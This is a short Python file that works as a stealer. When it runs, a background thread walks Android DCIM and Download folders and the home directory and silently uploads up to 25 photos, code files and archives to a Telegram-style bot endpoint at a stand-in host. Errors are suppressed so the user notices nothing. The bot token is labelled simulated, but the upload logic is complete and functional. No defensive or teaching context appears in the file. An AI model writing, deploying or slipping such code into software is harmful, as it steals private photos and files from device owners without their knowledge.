# SPDX-License-Identifier: Apache-2.0
import os
import threading
import urllib.request
import uuid

bot = "6412345678:SIMULATED-not-a-token"
chat = "1130000000"
roots = ["/storage/emulated/0/DCIM", "/sdcard/Download", os.path.expanduser("~")]
endings = (".py", ".php", ".zip", ".png", ".jpg", ".jpeg")


def send(path):
    line = uuid.uuid4().hex
    with open(path, "rb") as file:
        data = file.read(200_000)
    name = os.path.basename(path)
    head = (
        f'--{line}\r\nContent-Disposition: form-data; name="chat_id"\r\n\r\n{chat}\r\n'
        f'--{line}\r\nContent-Disposition: form-data; name="document"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    )
    body = head.encode() + data + f"\r\n--{line}--\r\n".encode()
    urllib.request.urlopen(
        urllib.request.Request(
            f"https://api.tele-bot.example/bot{bot}/sendDocument",
            body,
            {"Content-Type": f"multipart/form-data; boundary={line}"},
        ),
        timeout=5,
    ).read()


def search():
    sent = 0
    for root in roots:
        for folder, names, files in os.walk(root):
            names[:] = [name for name in names if name not in ("node_modules", "site-packages", ".cache")]
            for file in files:
                if not file.lower().endswith(endings):
                    continue
                if sent >= 25:
                    return
                sent += 1
                try:
                    send(os.path.join(folder, file))
                except Exception:
                    pass


threading.Thread(target=search).start()
